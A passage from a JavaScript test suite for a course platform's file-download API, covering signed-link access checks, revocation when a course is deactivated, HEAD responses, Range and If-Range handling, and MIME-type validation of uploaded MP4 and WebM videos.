      expect((await download(fileOf(open.id), { token: linkToken })).status).toBe(401);
      expect((await call("GET", `/steps/${open.step_id}`, { token: linkToken })).status).toBe(401);
      expect((await download(`${fileOf(open.id)}?token=${encodeURIComponent(manager)}`)).status).toBe(401);
    });

    it("gives no link to a participant without access, and none for a material without a file", async () => {
      const { manager, course, open, locked } = await twoStepCourse();
      const { participant } = await enrolled(manager, course.id);
      const lockedLink = await call("POST", `${fileOf(locked.id)}-link`, { token: participant });
      expect(lockedLink.status).toBe(403);
      expect(lockedLink.json.url).toBeUndefined();

      const elsewhere = await twoStepCourse();
      const { participant: outsider } = await enrolled(elsewhere.manager, elsewhere.course.id);
      const foreign = await call("POST", `${fileOf(open.id)}-link`, { token: outsider });
      expect(foreign.status).toBe(403);
      expect(foreign.json.code).toBe("file_forbidden");
      expect(foreign.json.url).toBeUndefined();

      expect((await call("POST", `${fileOf(open.id)}-link`)).status).toBe(401);

      const bare = await makeMaterial(manager, open.step_id, { material_type: "Document", content: { url: "https://example.com/c.pdf" } });
      expect((await call("POST", `${fileOf(bare.id)}-link`, { token: manager })).status).toBe(404);
    });

    it("checks the participant's access again when the link is used", async () => {
      const { manager, course, open, openBytes } = await twoStepCourse();
      const { participant } = await enrolled(manager, course.id);
      const link = await call("POST", `${fileOf(open.id)}-link`, { token: participant });
      expect(link.status).toBe(200);
      expect((await download(pathOf(link.json.url))).status).toBe(200);
      // The course is deactivated: the participant's link stops working.
      const off = await call("PUT", `/courses/${course.id}`, { token: manager, body: { is_active: false } });
      expect(off.status).toBe(200);
      // An inactive course shows nothing to participants: its material answers as one that does not exist.
      const after = await download(pathOf(link.json.url));
      expect(after.status).toBe(404);
      expect(after.json?.code).toBe("material_not_found");
      expect(after.bytes).not.toEqual(openBytes);
    });
  });

  it("answers HEAD like GET without a body, with a bearer token and with a signed link", async () => {
    const { manager, open } = await twoStepCourse();
    const head = await exports.default.fetch(
      new Request(`http://api.test${fileOf(open.id)}`, { method: "HEAD", headers: { authorization: `Bearer ${manager}` } }),
    );
    expect(head.status).toBe(200);
    expect(head.headers.get("content-length")).toBe("3000");
    expect(head.headers.get("accept-ranges")).toBe("bytes");
    expect((await head.arrayBuffer()).byteLength).toBe(0);

    const link = await call("POST", `${fileOf(open.id)}-link`, { token: manager });
    const signed = await exports.default.fetch(new Request(link.json.url, { method: "HEAD" }));
    expect(signed.status).toBe(200);
    expect(signed.headers.get("content-length")).toBe("3000");
  });

  it("serves the whole new file, not a slice of it, to a Range request whose If-Range names the replaced file", async () => {
    const { manager, material } = await documentMaterial();
    const first = pdf(4_000);
    await upload(manager, material.id, first, "application/pdf");
    const oldTag = `"${await sha256(first)}"`;
    const second = pdf(4_000).map((b, i) => (i < 9 ? b : b ^ 0xff));
    await upload(manager, material.id, second, "application/pdf");

    // A player resuming the old file asks for the rest of it only if it is unchanged (RFC 9110 §13.1.5).
    const resumed = await download(fileOf(material.id), { token: manager, headers: { range: "bytes=2000-", "if-range": oldTag } });
    expect(resumed.status).toBe(200);
    expect(resumed.bytes).toEqual(second);
    const current = await download(fileOf(material.id), {
      token: manager,
      headers: { range: "bytes=2000-", "if-range": `"${await sha256(second)}"` },
    });
    expect(current.status).toBe(206);
    expect(current.bytes).toEqual(second.slice(2000));
  });

  it("uploads an MP4 video as video/mp4 and serves it with Range", async () => {
    const { manager, course } = await documentMaterial();
    const step = await makeStep(manager, course.id);
    const video = await makeMaterial(manager, step.id, { title: "Lecture 1" });
    const bytes = mp4(50_000);
    const res = await upload(manager, video.id, bytes, "video/mp4");
    expect(res.status).toBe(200);
    expect(res.json.content).toMatchObject({ file: { size: 50_000, content_type: "video/mp4", sha256: await sha256(bytes) } });

    const whole = await download(fileOf(video.id), { token: manager });
    expect(whole.headers.get("content-type")).toBe("video/mp4");
    expect(whole.headers.get("content-disposition")).toBe(`inline; filename="Lecture_1.mp4"; filename*=UTF-8''Lecture%201.mp4`);
    expect(whole.bytes).toEqual(bytes);
    const ranged = await download(fileOf(video.id), { token: manager, headers: { range: "bytes=32768-" } });
    expect(ranged.status).toBe(206);
    expect(ranged.headers.get("content-range")).toBe("bytes 32768-49999/50000");
    expect(ranged.headers.get("content-type")).toBe("video/mp4");
    expect(ranged.bytes).toEqual(bytes.slice(32768));

    // A WebM declared as MP4 is refused, and the MP4 stays.
    const webm = new Uint8Array([0x1a, 0x45, 0xdf, 0xa3, ...new Array(100).fill(1)]);
    expect((await upload(manager, video.id, webm, "video/mp4")).status).toBe(415);
    expect((await upload(manager, video.id, webm, "video/webm")).status).toBe(200);
    const served = await download(fileOf(video.id), { token: manager });
    expect(served.headers.get("content-type")).toBe("video/webm");
    expect(served.bytes).toEqual(webm);
  });
});
